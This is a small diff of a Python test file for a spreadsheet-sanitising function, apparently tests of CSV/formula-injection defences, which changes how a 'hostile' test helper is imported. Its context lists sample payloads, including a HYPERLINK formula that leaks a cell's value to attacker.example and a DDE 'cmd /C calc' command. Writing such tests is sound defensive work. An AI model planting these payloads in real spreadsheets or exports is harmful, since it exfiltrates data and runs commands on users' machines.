@@ -21,8 +21,7 @@ from analysis.spreadsheet import neutralise
 from analysis.template import template_workbook
 
 ROOT = Path(__file__).resolve().parent.parent
-sys.path.insert(0, str(ROOT / "tests" / "corpus"))
-import hostile  # noqa: E402
+from testkit import hostile
 
 FORMULA_IDS = ['=HYPERLINK("http://attacker.example/?leak="&B2;"click")', "+1+1", "@SUM(1+1)",
                "=cmd|' /C calc'!A0", "-2+3"]
